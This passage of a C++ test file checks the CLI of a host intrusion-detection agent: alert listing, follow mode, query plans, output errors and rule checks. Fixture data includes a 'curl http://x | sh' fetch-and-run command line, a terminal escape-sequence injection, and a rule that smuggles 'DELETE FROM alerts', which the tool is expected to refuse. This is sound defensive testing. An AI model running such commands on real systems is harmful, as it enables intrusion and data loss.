// rules.max_bytes (the result comes back empty, cut). The watch names each
// on stderr and goes on with the next. Before, the first ended the watch
// with an error, and the second stopped it silently for as long as it ran;
// then a dedup_key past 256 KiB still ended it (the watch read the key's
// start to know its place).
TEST_F(Cli, AlertsFollowGoesPastAlertsNoQueryCanReadWhole) {
  make_store();
  const fs::path config = dir_.path() / "config.yaml";
  write_file(config, fmt::format("database: {{ path: {} }}\nrules: {{ max_bytes: 1MiB }}\n", db_.string()));
  const fs::path out = dir_.path() / "follow.out", err = dir_.path() / "follow.err";
  Child watch({cli_bin(), "--config", config.string(), "alerts", "--follow", "--json"}, out, err);
  auto rule_ids = [&] { return rule_ids_in(out); };
  ASSERT_TRUE(eventually([&] { return rule_ids().size() == 2; }, 30s)) << slurp(out) << slurp(err);
  {
    auto store = de::Store::open({.path = db_});
    ASSERT_TRUE(store) << store.error();
    const std::string quarter(250'000, 'q');
    auto alert = [&](const std::string& rule) {
      return de::Alert{.rule_id = rule, .rule_name = "R", .severity = de::Severity::high, .tags = {},
                       .row_json = R"({"pid":2})", .host = "h", .time = now(), .dedup_key = rule + "|pid=2"};
    };
    std::vector<de::Alert> late{alert("before"), alert("huge-value"), alert("middle"), alert("huge-sum"),
                                alert("huge-key"),  alert("after")};
    late[1].row_json = R"({"cmdline":")" + std::string(300'000, 'x') + R"("})";
    late[3].row_json = R"({"cmdline":")" + quarter + R"("})";
    late[3].rule_name = late[3].host = quarter;
    late[3].tags = {quarter};
    late[3].dedup_key = "huge-sum|" + quarter;
    late[4].dedup_key = "huge-key|" + std::string(300'000, 'k');
    auto i = (*store)->insert_alerts(late);
    ASSERT_TRUE(i) << i.error();
  }
  const std::vector<std::string> want{"exec-from-tmp", "reverse-shell", "before", "middle", "after"};
  EXPECT_TRUE(eventually([&] { return rule_ids() == want; }, 30s)) << slurp(out).substr(0, 3000) << slurp(err);
  EXPECT_TRUE(has(slurp(err), "alert 5 (rule huge-value) not printed: string or blob too big"))
      << slurp(err);
  EXPECT_TRUE(has(slurp(err), "alert 7 (rule huge-sum) not printed: larger than rules.max_bytes (1048576 bytes)"))
      << slurp(err);
  EXPECT_TRUE(has(slurp(err), "alert 8 (rule huge-key) not printed: string or blob too big")) << slurp(err);
  EXPECT_FALSE(watch.wait(1500ms).has_value()) << slurp(err);
  EXPECT_EQ(rule_ids(), want);
}

// The newest alert, outside the listing's window, has a dedup_key past the
// engine's 256 KiB value limit. Before, the statement that lists and finds
// where the watch starts read that key's start and failed: the watch ended
// with "string or blob too big" before it began.
TEST_F(Cli, AlertsFollowStartsAfterANewestAlertWithAHugeKey) {
  make_store();
  store_alerts({{.rule_id = "old-huge-key", .rule_name = "R", .severity = de::Severity::low, .tags = {},
                 .row_json = R"({"pid":3})", .host = "h", .time = now() - 2 * 86400,
                 .dedup_key = "old|" + std::string(300'000, 'k')}});
  const fs::path out = dir_.path() / "follow.out", err = dir_.path() / "follow.err";
  Child watch({cli_bin(), "--db", db_.string(), "alerts", "--follow", "--json"}, out, err);
  auto rule_ids = [&] { return rule_ids_in(out); };
  ASSERT_TRUE(eventually([&] { return rule_ids().size() == 2; }, 30s)) << slurp(out) << slurp(err);
  store_alerts({{.rule_id = "late-rule", .rule_name = "R", .severity = de::Severity::high, .tags = {},
                 .row_json = R"({"pid":4})", .host = "h", .time = now(), .dedup_key = "late|pid=4"}});
  const std::vector<std::string> want{"exec-from-tmp", "reverse-shell", "late-rule"};
  EXPECT_TRUE(eventually([&] { return rule_ids() == want; }, 30s)) << slurp(out) << slurp(err);
  EXPECT_FALSE(watch.wait(1500ms).has_value()) << slurp(err);
  EXPECT_EQ(rule_ids(), want) << slurp(err);
}

// A burst larger than --limit: each full read is followed at once by the
// next. Before, the watch waited a second after every read (but at
// --limit 1), so 100 alerts at --limit 2 took at least 50 s; this allows
// 30 s on a busy machine.
TEST_F(Cli, AlertsFollowDoesNotWaitAfterAFullRead) {
  make_store();
  const fs::path out = dir_.path() / "follow.out", err = dir_.path() / "follow.err";
  Child watch({cli_bin(), "--db", db_.string(), "alerts", "--follow", "--json", "--limit", "2"}, out, err);
  auto rule_ids = [&] { return rule_ids_in(out); };
  ASSERT_TRUE(eventually([&] { return rule_ids().size() == 2; }, 30s)) << slurp(out) << slurp(err);
  std::vector<std::string> want{"exec-from-tmp", "reverse-shell"};
  std::vector<de::Alert> burst;
  for (int i = 0; i < 100; ++i) {
    burst.push_back({.rule_id = fmt::format("burst-{}", i), .rule_name = "R", .severity = de::Severity::low,
                     .tags = {}, .row_json = "{}", .host = "h", .time = now(), .dedup_key = fmt::format("b|{}", i)});
    want.push_back(burst.back().rule_id);
  }
  store_alerts(burst);
  EXPECT_TRUE(eventually([&] { return rule_ids() == want; }, 30s)) << rule_ids().size() << " lines\n" << slurp(err);
}

// Every statement alerts reads with goes through an index, never reading
// the whole table, and none sorts whole alerts. The listing: alerts_time
// (or alerts_rule_time with --rule), ids and times only, in the index's
// order. Every --follow poll:
// the primary key while the remembered alert is there, alerts_time after it
// is gone (before, one CASE over both conditions made SQLite scan `alerts`
// every second: 1M alerts, ~100k pages a poll). The alerts themselves: by
// id through the primary key, in id order as stored, no sorter.
TEST_F(Cli, AlertsAreReadThroughIndexes) {
  make_store();
  sqlite3* raw = nullptr;
  ASSERT_EQ(::sqlite3_open_v2(db_.c_str(), &raw, SQLITE_OPEN_READONLY, nullptr), SQLITE_OK);
  std::unique_ptr<sqlite3, decltype(&::sqlite3_close)> db(raw, &::sqlite3_close);
  auto plan_of = [&](const std::string& sql) {
    sqlite3_stmt* st = nullptr;
    EXPECT_EQ(::sqlite3_prepare_v2(db.get(), ("EXPLAIN QUERY PLAN " + sql).c_str(), -1, &st, nullptr), SQLITE_OK)
        << ::sqlite3_errmsg(db.get());
    std::string all;
    while (st != nullptr && ::sqlite3_step(st) == SQLITE_ROW)
      all += reinterpret_cast<const char*>(::sqlite3_column_text(st, 3)) + std::string("\n");
    ::sqlite3_finalize(st);
    return all;
  };
  for (const std::string_view rule : {"", "reverse-shell"}) {
    const std::string poll = plan_of(de::cli::alerts_after_mark("SELECT id, time FROM alerts", rule, 100));
    EXPECT_FALSE(has(poll, "SCAN alerts")) << poll;
    EXPECT_TRUE(has(poll, "SEARCH alerts USING INTEGER PRIMARY KEY (rowid>?)\n")) << poll;
    EXPECT_TRUE(std::regex_search(poll, std::regex("SEARCH alerts USING (COVERING )?INDEX alerts_time \\(time>\\?\\)\n")))
        << poll;
    for (const bool newest : {false, true}) {
      const std::string sql = de::cli::alert_listing(now() - 3600, rule, 100, newest);
      const std::string listing = plan_of(sql);
      EXPECT_FALSE(has(listing, "SCAN alerts")) << listing;
      // alerts_time, or with --rule alerts_rule_time (rule_id, time), gives
      // the order: nothing is sorted (before 2026-12-06 the --rule index was
      // on rule_id alone and SQLite sorted the rule's ids and times).
      EXPECT_FALSE(has(listing, "TEMP B-TREE")) << listing;
      EXPECT_TRUE(std::regex_search(listing,
                                    std::regex(rule.empty() ? "SEARCH alerts USING COVERING INDEX alerts_time"
                                                            : "SEARCH alerts USING COVERING INDEX alerts_rule_time "
                                                              "\\(rule_id=\\? AND time>\\?\\)")))
          << listing;
    }
  }
  // --rule's resolution (a prefix's candidates one at a time): one seek
  // in alerts_rule_time each, not the rule's alerts read.
  EXPECT_EQ(plan_of(de::cli::rule_stored("8c1f")), "SEARCH alerts USING COVERING INDEX alerts_rule_time (rule_id=?)\n");
  const std::string next = plan_of(de::cli::next_rule_with_prefix("8c1f", "8c1f6f0e"));
  EXPECT_TRUE(has(next, "SEARCH alerts USING COVERING INDEX alerts_rule_time (rule_id>? AND rule_id<?)\n")) << next;
  EXPECT_FALSE(has(next, "TEMP B-TREE")) << next;
  // In the list's order, which a cut result relies on: the list is the
  // outer loop, each alert one primary-key search, no sorter.
  const std::int64_t ids[] = {3, 1, 2};
  EXPECT_EQ(plan_of(de::cli::alerts_with_ids(ids)),
            "CO-ROUTINE wanted\nSCAN 3 CONSTANT ROWS\nSCAN wanted\nSEARCH alerts USING INTEGER PRIMARY KEY (rowid=?)\n");
}

// `alerts -f | head -2`: head exits after the listing, and the watch ends
// within a second or so, not at the next alert's failed write - which, on
// a quiet host, may be days later (before 32eb2d2 it ran on). It ends by
// SIGPIPE (141), as `tail -f | head` does, quietly (exit 0 until 2026-12-06).
TEST_F(Cli, AlertsFollowEndsWhenItsReaderIsGone) {
  make_store();
  int p[2];
  ASSERT_EQ(::pipe2(p, O_CLOEXEC), 0);
  const fs::path err = dir_.path() / "follow.err";
  airssys::testing::Child watch({cli_bin(), "--db", db_.string(), "alerts", "--follow"},
                                {.stderr_path = err, .stdout_fd = p[1]});
  ::close(p[1]);
  std::string got;
  char buf[4096];
  while (std::count(got.begin(), got.end(), '\n') < 2) {
    const ssize_t n = ::read(p[0], buf, sizeof buf);
    if (n <= 0) break;
    got.append(buf, static_cast<std::size_t>(n));
  }
  EXPECT_TRUE(has(got, "reverse-shell")) << got << slurp(err);
  ::close(p[0]);  // head exits
  const auto code = watch.wait(30s);
  EXPECT_EQ(code, std::optional<int>(128 + SIGPIPE)) << slurp(err);
  EXPECT_EQ(slurp(err), "");
}

// Alerts with large values, as a long command line makes them: many that
// hold several MiB together; one whose row is past 256 KiB though each of
// its values is below (SQLite's sorter refuses such a record); one with a
// value past the engine's 256 KiB value limit, and one whose values pass
// rules.max_bytes together (neither can be read whole by any query). Every
// readable alert is listed, oldest first, by `alerts`, `alerts --rule`,
// `--json` and the start of `--follow`; each unreadable one is named on
// stderr and the listing goes on. Before, the listing sorted whole rows:
// `--rule wide` and `--follow` failed with "string or blob too big", and
// the value past the limit failed every listing that held it.
TEST_F(Cli, AlertsListsBigAlertsAndNamesTheOnesNoQueryCanReadWhole) {
  make_store();
  const std::string quarter(250'000, 'q');
  auto alert = [&](const std::string& rule, std::int64_t age) {
    return de::Alert{.rule_id = rule, .rule_name = "R", .severity = de::Severity::high, .tags = {},
                     .row_json = R"({"cmdline":")" + std::string(200'000, 'c') + R"("})", .host = "h",
                     .time = now() - age, .dedup_key = rule + "|pid=2"};
  };
  std::vector<de::Alert> big;
  for (int i = 0; i < 12; ++i) big.push_back(alert(fmt::format("many-{}", i), 20 - i));  // 2.4 MB together
  big.push_back(alert("wide", 5));
  big.back().dedup_key = "wide|" + std::string(200'000, 'k');  // 400 KB of row, each value < 256 KiB
  big.push_back(alert("huge-value", 4));
  big.back().row_json = R"({"cmdline":")" + std::string(300'000, 'x') + R"("})";
  big.push_back(alert("huge-sum", 3));
  big.back().row_json = R"({"cmdline":")" + quarter + R"("})";
  big.back().rule_name = big.back().host = quarter;
  big.back().tags = {quarter};
  big.back().dedup_key = "huge-sum|" + quarter;
  big.push_back(alert("last", 2));
  store_alerts(big);
  const fs::path config = dir_.path() / "config.yaml";
  write_file(config, fmt::format("database: {{ path: {} }}\nrules: {{ max_bytes: 1MiB }}\n", db_.string()));

  // Oldest first: exec-from-tmp (60 s old), reverse-shell (30 s), many-0 (20 s) ... many-11 (9 s), wide, last.
  std::vector<std::string> want{"exec-from-tmp", "reverse-shell"};
  for (int i = 0; i < 12; ++i) want.push_back(fmt::format("many-{}", i));
  want.insert(want.end(), {"wide", "last"});
  const std::string huge_value = "alert 17 (rule huge-value) not printed: string or blob too big";
  const std::string huge_sum = "alert 18 (rule huge-sum) not printed: larger than rules.max_bytes (1048576 bytes)";

  auto ids_in_array = [](const std::string& out) {
    std::vector<std::string> got;
    const auto doc = nlohmann::json::parse(out, nullptr, false);
    if (!doc.is_array()) return std::vector<std::string>{"not an array"};
    for (const auto& j : doc) got.push_back(j.value("rule_id", "?"));
    return got;
  };
  Outcome json = cli({"--config", config.string(), "alerts", "--json"});
  EXPECT_EQ(json.code, 0) << json.err;
  EXPECT_EQ(ids_in_array(json.out), want) << json.err;
  EXPECT_TRUE(has(json.err, huge_value)) << json.err;
  EXPECT_TRUE(has(json.err, huge_sum)) << json.err;
  if (const auto doc = nlohmann::json::parse(json.out, nullptr, false); doc.is_array() && doc.size() == want.size()) {
    EXPECT_EQ(doc[14]["dedup_key"], big[12].dedup_key);
    EXPECT_EQ(doc[14]["row"]["cmdline"], std::string(200'000, 'c'));
  }

  Outcome lines = cli({"--config", config.string(), "alerts"});
  EXPECT_EQ(lines.code, 0) << lines.err;
  EXPECT_EQ(std::count(lines.out.begin(), lines.out.end(), '\n'), static_cast<std::ptrdiff_t>(want.size())) << lines.err;
  EXPECT_TRUE(has(lines.out, " HIGH wide R cmdline=\"ccc")) << lines.out.substr(0, 2000);
  EXPECT_TRUE(has(lines.err, huge_value)) << lines.err;

  for (const std::string rule : {"wide", "huge-value", "many-3"}) {
    Outcome one = cli({"--config", config.string(), "alerts", "--rule", rule, "--json"});
    EXPECT_EQ(one.code, 0) << rule << ": " << one.err;
    EXPECT_EQ(ids_in_array(one.out),
              rule == "huge-value" ? std::vector<std::string>{} : std::vector<std::string>{rule})
        << rule << ": " << one.err;
  }
  // The newest 4: wide, huge-value, huge-sum, last.
  Outcome newest = cli({"--config", config.string(), "alerts", "--json", "--limit", "4"});
  EXPECT_EQ(ids_in_array(newest.out), (std::vector<std::string>{"wide", "last"})) << newest.err;
  EXPECT_TRUE(has(newest.err, huge_sum)) << newest.err;

  const fs::path out = dir_.path() / "follow.out", err = dir_.path() / "follow.err";
  Child watch({cli_bin(), "--config", config.string(), "alerts", "--follow", "--json"}, out, err);
  EXPECT_TRUE(eventually([&] { return rule_ids_in(out) == want; }, 30s)) << rule_ids_in(out).size() << slurp(err);
  store_alerts({alert("late", 0)});
  want.push_back("late");
  EXPECT_TRUE(eventually([&] { return rule_ids_in(out) == want; }, 30s)) << rule_ids_in(out).size() << slurp(err);
  EXPECT_TRUE(has(slurp(err), huge_value)) << slurp(err);
  EXPECT_FALSE(watch.wait(1500ms).has_value()) << slurp(err);
}

// Ids against time (the clock stepped back: a newer alert took a smaller
// id) and alerts so large that rules.max_bytes cuts every statement after
// a few of them: the listing is still complete and oldest first. The
// alerts of a statement come in the order asked for (alert_queries.hpp
// alerts_with_ids), so a cut one ends at the last alert read and the next
// statement starts after it; before, they came in id order, and a cut one
// that missed the next alert in time order read it alone and the rest of
// the batch again (up to rules.max_bytes of reading per alert).
TEST_F(Cli, AlertsStayCompleteAndInTimeOrderWhenIdsRunAgainstTime) {
  make_store();
  std::vector<de::Alert> back;
  for (int i = 0; i < 14; ++i) {  // stored newest first: ids rise as times fall
    const bool big = i % 7 != 3;
    back.push_back({.rule_id = fmt::format("back-{}", i), .rule_name = "R", .severity = de::Severity::low, .tags = {},
                    .row_json = R"({"cmdline":")" + std::string(big ? 200'000 : 10, 'c') + R"("})", .host = "h",
                    .time = now() - 200 - i, .dedup_key = fmt::format("back|{}", i)});
  }
  store_alerts(back);
  const fs::path config = dir_.path() / "config.yaml";
  write_file(config, fmt::format("database: {{ path: {} }}\nrules: {{ max_bytes: 1MiB }}\n", db_.string()));
  std::vector<std::string> want;
  for (int i = 13; i >= 0; --i) want.push_back(fmt::format("back-{}", i));
  want.insert(want.end(), {"exec-from-tmp", "reverse-shell"});

  Outcome json = cli({"--config", config.string(), "alerts", "--json"});
  EXPECT_EQ(json.code, 0) << json.err;
  EXPECT_EQ(json.err, "");
  std::vector<std::string> got;
  const auto doc = nlohmann::json::parse(json.out, nullptr, false);
  ASSERT_TRUE(doc.is_array()) << json.out.substr(0, 2000);
  std::map<std::string, std::size_t> sizes;  // each alert whole: its command line's length
  for (const auto& j : doc) {
    got.push_back(j.value("rule_id", "?"));
    if (j["row"].contains("cmdline")) sizes[got.back()] = j["row"]["cmdline"].get<std::string>().size();
  }
  for (int i = 0; i < 14; ++i)
    EXPECT_EQ(sizes[fmt::format("back-{}", i)], i % 7 != 3 ? 200'000U : 10U) << i;
  EXPECT_EQ(got, want);
  Outcome lines = cli({"--config", config.string(), "alerts"});
  EXPECT_EQ(lines.code, 0) << lines.err;
  std::vector<std::string> rules_in_lines;
  std::istringstream in(lines.out);
  for (std::string l; std::getline(in, l);)
    for (const auto& w : want)
      if (has(l, " " + w + " ")) rules_in_lines.push_back(w);
  EXPECT_EQ(rules_in_lines, want) << lines.err;
}

// A store that fails part-way through a listing (here a page of a later
// alert is corrupt: the listing, read from alerts_time alone, passes it;
// reading that alert's batch fails) ends the command with the store's
// code and reason on stderr, after printing what was read: `--json`
// closes its array, so stdout is valid JSON of those alerts. Before, the
// array was left open (and the text lines still in the output buffer were
// lost).
TEST_F(Cli, AListingThatFailsPartWayPrintsWhatItReadAsValidJson) {
  make_store();
  std::vector<de::Alert> many;
  for (int i = 0; i < 300; ++i)
    many.push_back({.rule_id = fmt::format("small-{}", i), .rule_name = "R", .severity = de::Severity::low, .tags = {},
                    .row_json = "{}", .host = "h", .time = now() - 3000 + i, .dedup_key = fmt::format("s|{}", i)});
  // Listed after the 256 alerts of the first statement.
  const std::string marker = "MARK-OF-THE-PAGE-TO-BREAK";
  many.push_back({.rule_id = "broken", .rule_name = "R", .severity = de::Severity::low, .tags = {},
                  .row_json = R"({"cmdline":")" + std::string(50'000, 'z') + marker + std::string(50'000, 'z') + R"("})",
                  .host = "h", .time = now() - 100, .dedup_key = "broken"});
  store_alerts(many);
  {  // Everything in the database file itself, no -wal left to read.
    sqlite3* raw = nullptr;
    ASSERT_EQ(::sqlite3_open_v2(db_.c_str(), &raw, SQLITE_OPEN_READWRITE, nullptr), SQLITE_OK);
    std::unique_ptr<sqlite3, decltype(&::sqlite3_close)> db(raw, &::sqlite3_close);
    ASSERT_EQ(::sqlite3_exec(db.get(), "PRAGMA wal_checkpoint(TRUNCATE)", nullptr, nullptr, nullptr), SQLITE_OK);
  }
  // The marker lies in the middle of the alert's value, in one of its
  // overflow pages; their first 4 bytes name the next page of the value.
  // Naming one past the end of the file makes reading the alert fail with
  // SQLITE_CORRUPT, and nothing else.
  std::string file = slurp(db_);
  const std::size_t at = file.find(marker);
  ASSERT_NE(at, std::string::npos);
  ASSERT_EQ(file.find(marker, at + 1), std::string::npos);
  const std::size_t page_size = (static_cast<unsigned char>(file[16]) << 8) | static_cast<unsigned char>(file[17]);
  ASSERT_GE(page_size, 512U);
  const std::size_t page = at / page_size * page_size;
  file.replace(page, 4, "\x7f\xff\xff\xf0");
  write_file(db_, file);

  std::vector<std::string> first_batch;
  for (int i = 0; i < 256; ++i) first_batch.push_back(fmt::format("small-{}", i));
  Outcome json = cli_db({"alerts", "--json", "--limit", "1000"});
  EXPECT_NE(json.code, 0) << json.err;
  EXPECT_TRUE(has(json.err, "reading alerts: ")) << json.err;
  const auto doc = nlohmann::json::parse(json.out, nullptr, false);
  ASSERT_TRUE(doc.is_array()) << json.out.substr(json.out.size() > 2000 ? json.out.size() - 2000 : 0);
  std::vector<std::string> got;
  for (const auto& j : doc) got.push_back(j.value("rule_id", "?"));
  EXPECT_EQ(got, first_batch);

  Outcome lines = cli_db({"alerts", "--limit", "1000"});
  EXPECT_EQ(lines.code, json.code) << lines.err;
  EXPECT_EQ(lines.err, json.err);
  EXPECT_EQ(std::count(lines.out.begin(), lines.out.end(), '\n'), 256) << lines.err;
  EXPECT_TRUE(has(lines.out, " small-255 ")) << lines.out.substr(lines.out.size() > 500 ? lines.out.size() - 500 : 0);
}

// The rule for output that cannot be written, as airssys-osl and
// task-watchdog follow it: a reader that went away ends a command that
// would exit 0 by SIGPIPE (141), quietly, and leaves another its code; a
// full disk or a closed stdout is "writing standard output: REASON", exit
// 1. Before, daemoneye-cli ignored every failed write: exit 0 with nothing
// written (`status --json > /dev/full`, `rules list >&-`), and exit 0 for
// a reader gone, `alerts --follow` included.
TEST_F(Cli, OutputThatCannotBeWrittenEndsTheCommandAsTheOtherCLIsDo) {
  make_store();
  write_status(live_status());
  const fs::path rules = dir_.path() / "rules";
  fs::create_directories(rules);
  ::chmod(rules.c_str(), 0700);
  write_file(rules / "good.yaml", "id: good\nname: Good\nseverity: low\nquery: SELECT pid, start_time FROM processes\n");
  const fs::path config = dir_.path() / "config.yaml";
  write_file(config, fmt::format("database: {{ path: {} }}\nrules: {{ dir: {} }}\n", db_.string(), rules.string()));
  const fs::path err = dir_.path() / "stdout-rule.err";
  auto run_into = [&](const std::vector<std::string>& args, const airssys::testing::SpawnOptions& where) {
    std::vector<std::string> argv{cli_bin(), "--config", config.string()};
    argv.insert(argv.end(), args.begin(), args.end());
    fs::remove(err);
    airssys::testing::Child c(argv, where);
    return c.wait(60s);
  };
  // A pipe whose reader has already gone.
  auto into_gone_reader = [&](const std::vector<std::string>& args) {
    int p[2];
    EXPECT_EQ(::pipe2(p, O_CLOEXEC), 0);
    ::close(p[0]);
    const auto code = run_into(args, {.stderr_path = err, .stdout_fd = p[1]});
    ::close(p[1]);
    return code;
  };
  const std::vector<std::vector<std::string>> commands{
      {"status", "--json"}, {"metrics"}, {"alerts"}, {"alerts", "--json"}, {"events"}, {"query", "SELECT 1"},
      {"rules", "list"},    {"alerts", "--follow"}};
  for (const auto& args : commands) {
    const std::string what = fmt::format("{}", fmt::join(args, " "));
    // (rules list says its count on stderr, whatever stdout does.)
    EXPECT_EQ(into_gone_reader(args), std::optional<int>(128 + SIGPIPE)) << what << ": " << slurp(err);
    EXPECT_FALSE(has(slurp(err), "standard output")) << what << ": " << slurp(err);
    EXPECT_EQ(run_into(args, {.stdout_path = "/dev/full", .stderr_path = err}), std::optional<int>(1)) << what;
    EXPECT_TRUE(has(slurp(err), "daemoneye-cli: writing standard output: No space left on device\n")) << what << ": "
                                                                                                      << slurp(err);
    // `>&-`: fd 1 is /dev/null opened read-only (osl/detail/standard_fds.hpp).
    std::vector<std::string> closed{"/bin/sh", "-c", R"("$@" >&-)", "sh", cli_bin(), "--config", config.string()};
    closed.insert(closed.end(), args.begin(), args.end());
    const auto r = airssys::testing::run(closed);
    EXPECT_EQ(r.status, 1) << what << ": " << r.err;
    EXPECT_TRUE(has(r.err, "daemoneye-cli: writing standard output: Bad file descriptor\n")) << what << ": " << r.err;
  }
  // A command that already failed keeps its code: the agent is not running (1).
  fs::remove(de::status_file_for(db_));
  EXPECT_EQ(into_gone_reader({"status"}), std::optional<int>(1)) << slurp(err);
  EXPECT_EQ(slurp(err), "");
  EXPECT_EQ(run_into({"status"}, {.stdout_path = "/dev/full", .stderr_path = err}), std::optional<int>(1));
  EXPECT_EQ(slurp(err), "daemoneye-cli: writing standard output: No space left on device\n");
}

TEST_F(Cli, EventsAreListedWithHostileTextMadeInert) {
  make_store();
  Outcome r = cli_db({"events"});
  EXPECT_EQ(r.code, 0) << r.err;
  EXPECT_TRUE(has(r.out, "TIME")) << r.out;
  EXPECT_TRUE(std::regex_search(r.out, std::regex("start +ebpf +4100 +1 +root +curl +curl http://x \\| sh"))) << r.out;
  EXPECT_TRUE(has(r.out, "evil ?[2J?[31mred")) << r.out;
  EXPECT_FALSE(has(r.out, "\x1b"));
  EXPECT_FALSE(has(r.out, " old")) << "a 3-day-old event is outside the default 24h";
  Outcome pid = cli_db({"events", "--pid", "4101", "--json"});
  EXPECT_EQ(pid.code, 0);
  auto doc = nlohmann::json::parse(pid.out);
  ASSERT_EQ(doc.size(), 1u);
  EXPECT_EQ(doc[0]["event"], "exec");
  EXPECT_EQ(doc[0]["source"], "ebpf");
  EXPECT_EQ(doc[0]["cmdline"], "evil \x1b[2J\x1b[31mred");  // JSON keeps the text (escaped)
  Outcome all = cli_db({"events", "--since", "7d", "--pid", "4100", "--json"});
  EXPECT_EQ(nlohmann::json::parse(all.out).size(), 3u);
}

TEST_F(Cli, RulesAreCheckedAsTheAgentLoadsThem) {
  const fs::path rules = dir_.path() / "rules";
  fs::create_directories(rules);
  ::chmod(rules.c_str(), 0700);
  write_file(rules / "good.yaml", "id: good\nname: Good\nseverity: low\nquery: SELECT pid, start_time FROM processes\n");
  Outcome ok = cli({"rules", "check", (rules / "good.yaml").string()});
  EXPECT_EQ(ok.code, 0) << ok.err;
  EXPECT_TRUE(has(ok.out, "ok  " + (rules / "good.yaml").string() + ": good (low)")) << ok.out;

  write_file(rules / "sql.yaml", "id: sql\nname: S\nseverity: low\nquery: SELECT pid FROM processes; DELETE FROM alerts\n");
  write_file(rules / "yaml.yaml", "id: y\nname: Y\nseverity: extreme\nquery: SELECT 1\n");
  Outcome dir = cli({"rules", "check", rules.string()});
  EXPECT_EQ(dir.code, 1);
  EXPECT_TRUE(has(dir.out, "good (low)")) << dir.out;
  EXPECT_TRUE(has(dir.err, (rules / "sql.yaml").string() + ":4: query refused: only one statement per query")) << dir.err;
  EXPECT_TRUE(has(dir.err, (rules / "yaml.yaml").string() + ":3: severity 'extreme' is not one of")) << dir.err;
  EXPECT_TRUE(has(dir.err, "1 rule valid, 2 rejected")) << dir.err;

  fs::create_directory_symlink(rules, dir_.path() / "linked-rules");
  Outcome linked = cli({"rules", "check", (dir_.path() / "linked-rules").string()});
  EXPECT_EQ(linked.code, 4);  // a symbolic link named on the command line: denied
  EXPECT_TRUE(has(linked.err, (dir_.path() / "linked-rules").string() +
                                  ": cannot open rules directory: it is a symbolic link (not followed)"))
      << linked.err;

  Outcome bundled = cli({"rules", "check", env_or_empty("AIRSSYS_SOURCE_DIR") + "/daemoneye/rules"});
  EXPECT_EQ(bundled.code, 0) << bundled.err;
  EXPECT_TRUE(has(bundled.err, "12 rules valid, 0 rejected")) << bundled.err;

  // rules list reads rules.dir from the configuration, as the agent does.
  const fs::path config = dir_.path() / "config.yaml";
  write_file(config, fmt::format("database: {{ path: {} }}\nrules: {{ dir: {} }}\n", db_.string(), rules.string()));
  Outcome list = cli({"--config", config.string(), "rules", "list"});
  EXPECT_EQ(list.code, 1);  // two files the agent would reject
  EXPECT_TRUE(std::regex_search(list.out, std::regex("good +low +yes +Good +good.yaml"))) << list.out;
  Outcome json = cli({"--config", config.string(), "rules", "list", "--json"});
  auto doc = nlohmann::json::parse(json.out);
  EXPECT_EQ(doc["rules"].size(), 1u);
  EXPECT_EQ(doc["rejected"].size(), 2u);
}

TEST_F(Cli, TheStoreIsFoundThroughTheAgentsConfigLayers) {
  write_status(live_status());
  const fs::path config = dir_.path() / "config.yaml";
  write_file(config, fmt::format("database: {{ path: {} }}\n", db_.string()));
  EXPECT_EQ(cli({"--config", config.string(), "status"}).code, 0);
  write_file(config, "database: { pathh: x }\n");
  Outcome bad = cli({"--config", config.string(), "status"});
  EXPECT_EQ(bad.code, 2);
  EXPECT_TRUE(has(bad.err, config.string() + ":1: unknown key 'pathh' in database")) << bad.err;
  ::setenv("DAEMONEYE_DATABASE_PATH", db_.c_str(), 1);
  Outcome env = cli({"status"});
  ::unsetenv("DAEMONEYE_DATABASE_PATH");
  EXPECT_EQ(env.code, 0) << env.out << env.err;
}

// The real agent: while it runs, `status` says so with procmond's pid and a
// fresh status; after SIGTERM it says stopped.
TEST_F(Cli, ARunningAgentShowsThroughStatus) {
  if (agent_bin().empty()) GTEST_SKIP() << "DAEMONEYE_AGENT_BIN is not set";
  const fs::path rules = dir_.path() / "rules";
  fs::create_directories(rules);
  ::chmod(rules.c_str(), 0700);
  write_file(rules / "r.yaml", "id: r\nname: R\nseverity: low\nquery: SELECT pid, start_time FROM processes WHERE 0\n");
  const fs::path config = dir_.path() / "config.yaml";
  write_file(config, fmt::format("database: {{ path: {} }}\nscan: {{ interval: 500ms }}\nrules: {{ dir: {} }}\n"
                                 "alerts: {{ sinks: [] }}\n",
                                 db_.string(), rules.string()));
  const fs::path log = dir_.path() / "agent.log";
  Child agent({agent_bin(), "--config", config.string()}, log, log);
  Outcome r;
  ASSERT_TRUE(eventually([&] {
    r = cli({"--config", config.string(), "status", "--json"});
    if (r.code != 0) return false;
    auto doc = nlohmann::json::parse(r.out, nullptr, false);
    return !doc.is_discarded() && doc["status"]["scans"]["done"].get<int>() >= 1 &&
           doc["status"]["procmond"]["running"].get<bool>();
  })) << r.out << r.err << slurp(log);
  auto doc = nlohmann::json::parse(r.out);
  EXPECT_EQ(doc["status"]["pid"], agent.pid());
  EXPECT_EQ(doc["status"]["rules"]["loaded"], 1);
  EXPECT_GT(doc["status"]["procmond"]["pid"].get<int>(), 0);
  EXPECT_EQ(doc["status"]["scan_interval_ms"], 500);

  agent.signal(SIGTERM);
  ASSERT_EQ(agent.wait(), std::optional<int>(0)) << slurp(log);
  Outcome after = cli({"--config", config.string(), "status"});
  EXPECT_EQ(after.code, 1);
  EXPECT_TRUE(has(after.out, "stopped — the agent")) << after.out;
  EXPECT_TRUE(has(after.out, "procmond:  not running")) << after.out;
}

}  // namespace
}  // namespace detest
